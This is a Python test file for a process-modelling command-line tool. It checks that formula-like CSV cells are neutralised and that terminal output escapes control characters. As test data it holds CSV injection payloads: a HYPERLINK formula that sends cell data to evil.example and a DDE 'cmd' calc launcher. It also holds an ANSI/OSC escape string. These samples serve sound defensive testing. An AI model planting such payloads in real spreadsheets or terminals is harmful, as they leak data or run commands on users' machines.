"""Escaping in what the command line writes: CSV cells that are not formulas, terminal text without control sequences."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import processes.__main__ as cli
from processes.__main__ import main
from processes.exceptions import FormatError
from processes.formats import read_process, write_process
from processes.formats.spreadsheet import (
    FORMULA_STARTS,
    neutralise,
    unneutralise,
    write_csv,
)
from processes.model import Flow, Process, Step

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"klikk")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
]


def _chain(labels: list[str], lanes: list[str] | None = None) -> Process:
    process = Process("p", "Prosess")
    for n, label in enumerate(labels):
        process.add_step(Step(f"s{n}", label, lane=(lanes or [None] * len(labels))[n]))
        if n:
            process.add_flow(Flow(f"s{n - 1}", f"s{n}"))
    return process


def _cells(data: bytes, delimiter: str = ";") -> list[list[str]]:
    return list(
        csv.reader(
            io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter
        )
    )


# -- CSV ------------------------------------------------------------------------------


def test_convert_neutralises_formulas_and_reads_them_back(tmp_path: Path) -> None:
    source = tmp_path / "formula.yaml"
    source.write_bytes(write_process(_chain([*FORMULAS, "-2", "Befaring"]), "yaml"))
    out = tmp_path / "out.csv"
    assert main(["convert", str(source), str(out)]) == 0
    labels = [row[1] for row in _cells(out.read_bytes())[1:]]
    assert labels == ["'" + text for text in FORMULAS] + ["-2", "Befaring"]
    again = read_process(out.read_bytes(), filename="out.csv")
    assert [s.label for s in again.steps] == [*FORMULAS, "-2", "Befaring"]


def test_english_step_table_is_neutralised_too() -> None:
    data = write_process(_chain(["=1+1", "Arkivere"]), "csv", language="en")
    assert _cells(data, ",")[1][1] == "'=1+1"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_gets_an_apostrophe(start: str) -> None:
    assert neutralise(start + "x") == "'" + start + "x"


@pytest.mark.parametrize("number", ["-2", "+47", "-2,5", "-0.5", "-.5", "12"])
def test_plain_numbers_are_left_as_numbers(number: str) -> None:
    assert neutralise(number) == number
    assert _cells(write_csv([[number]]))[0] == [number]


@pytest.mark.parametrize("text", ["-", "+", "-2,5,1", "-1e5", "-²", "-2 ", "- 2"])
def test_near_numbers_are_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text


@given(st.text(st.sampled_from(list("=+-@\t\r'0123456789,.aZ ")), max_size=12))
def test_neutralising_round_trips(text: str) -> None:
    cell = neutralise(text)
    assert unneutralise(cell) == text
    bare = cell.lstrip("'")
    # What a spreadsheet sees is never a formula unless it is a plain number.
    assert (
        not bare.startswith(FORMULA_STARTS)
        or cell.startswith("'")
        or neutralise(bare) == bare
    )


@given(
    st.lists(
        st.text(st.sampled_from(list("=+-@'x1,")), min_size=1, max_size=8),
        min_size=1,
        max_size=4,
        unique=True,
    )
)
def test_step_table_round_trips_formula_like_labels(labels: list[str]) -> None:
    labels = [label for label in labels if label.strip()]
    if not labels:
        return
    again = read_process(write_process(_chain(labels), "csv"), filename="t.csv")
    assert [s.label for s in again.steps] == labels


# -- terminal ---------------------------------------------------------------------------

HOSTILE = "Befaring\x1b]0;pwned\x07\x1b[2J\x9b31m\u202eevil"


def _hostile_file(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.yaml"
    path.write_bytes(
        write_process(
            _chain([HOSTILE, "Arkivere"], lanes=["Lane\x1b[5m", None]), "yaml"
        )
    )
    return path


def _assert_no_controls(text: str) -> None:
    bad = sorted(
        {
            hex(ord(ch))
            for ch in text
            if (ord(ch) < 0x20 and ch not in "\n\t") or 0x7F <= ord(ch) < 0xA0
        }
    )
    assert bad == []
    assert "\u202e" not in text


def test_show_prints_control_characters_as_escapes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    main(["show", str(_hostile_file(tmp_path)), "--lang", "en"])
    out = capsys.readouterr().out
    _assert_no_controls(out)
    assert "Befaring\\u001b]0;pwned\\u0007\\u001b[2J\\u009b31m\\u202eevil" in out
    assert "Lane\\u001b[5m" in out


def test_a_newline_in_a_label_does_not_start_a_line_of_its_own(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "lines.yaml"
    path.write_bytes(
        write_process(_chain(["Motta\nValidation: ok", "Arkivere"]), "yaml")
    )
    main(["show", str(path), "--lang", "en"])
    out = capsys.readouterr().out
    assert "Motta\\u000aValidation: ok" in out


def test_compare_report_and_json_escape_control_characters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = _hostile_file(tmp_path)
    plain = tmp_path / "plain.yaml"
    plain.write_bytes(write_process(_chain(["Arkivere", "Befaring"]), "yaml"))
    assert main(["compare", str(hostile), str(plain), "--lang", "en"]) == 0
    _assert_no_controls(capsys.readouterr().out)
    assert main(["compare", str(hostile), str(plain), "--json"]) == 0
    out = capsys.readouterr().out
    _assert_no_controls(out)
    # The escapes are JSON's own, so a JSON reader gets the exact label back.
    assert any(HOSTILE in d["text"] for d in json.loads(out)["differences"])


def test_error_messages_escape_control_characters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(args: object) -> Process:
        raise FormatError("the step \x1b[2JBefaring\x9b is odd", source="bad.csv")

    monkeypatch.setattr(cli, "_read", refuse)
    assert main(["show", str(tmp_path / "bad.csv")]) == 2
    err = capsys.readouterr().err
    _assert_no_controls(err)
    assert "the step \\u001b[2JBefaring\\u009b is odd" in err


def test_engine_messages_quote_odd_text_already(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(b"Steg;Neste steg\r\nMotta;Finnes\x1b[2Jikke\r\n")
    assert main(["show", str(path)]) == 2
    _assert_no_controls(capsys.readouterr().err)
